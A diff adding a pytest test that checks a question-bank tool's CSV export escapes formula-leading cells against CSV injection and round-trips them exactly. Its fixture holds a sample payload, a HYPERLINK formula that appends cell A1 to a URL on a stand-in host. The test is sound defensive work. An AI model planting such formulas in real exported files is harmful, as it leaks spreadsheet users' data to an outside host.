@@ -202,3 +202,29 @@ def test_details_follow_ups_and_context_reach_anki_and_are_named_for_csv(
     assert "Что такое пузырь в pipeline-параллелизме?" in back
     code, _, stderr = run(capsys, "export", "csv", "--bank", bank_dir, "--out", tmp_path / "d.csv")
     assert code == 0 and "follow-ups and context lines of 1 question(s) are not in the CSV" in stderr
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Cells starting with = + - @ tab or CR are written with a leading ' (CSV injection), and read back
+    without it: the round trip stays exact."""
+    src = tmp_path / "evil.csv"
+    rows = [
+        ["question", "answer", "key points", "terms"],
+        ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 это ответ", "@SUM(A1:A9)\nвторой пункт", "-x"],
+        ["Обычный вопрос про LoRA?", "- пункт списка\n- ещё пункт", "\tтаб в начале", "lora"],
+    ]
+    with src.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows(rows)
+    bank_file, out, out2 = tmp_path / "b.yaml", tmp_path / "out.csv", tmp_path / "out2.csv"
+    assert run(capsys, "import", src, "--out", bank_file, "--bank", "none")[0] == 0
+    assert run(capsys, "export", "csv", "--bank", bank_file, "--out", out)[0] == 0
+    exported = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
+    cells = [cell for row in exported[1:] for cell in row]
+    assert cells, exported
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'- пункт") for c in cells)
+    bank2 = tmp_path / "b2.yaml"
+    assert run(capsys, "import", out, "--out", bank2, "--bank", "none")[0] == 0
+    assert "=HYPERLINK" in bank2.read_text(encoding="utf-8") and "'=HYPERLINK" not in bank2.read_text(encoding="utf-8")
+    assert run(capsys, "export", "csv", "--bank", bank2, "--out", out2)[0] == 0
+    assert out.read_bytes() == out2.read_bytes()
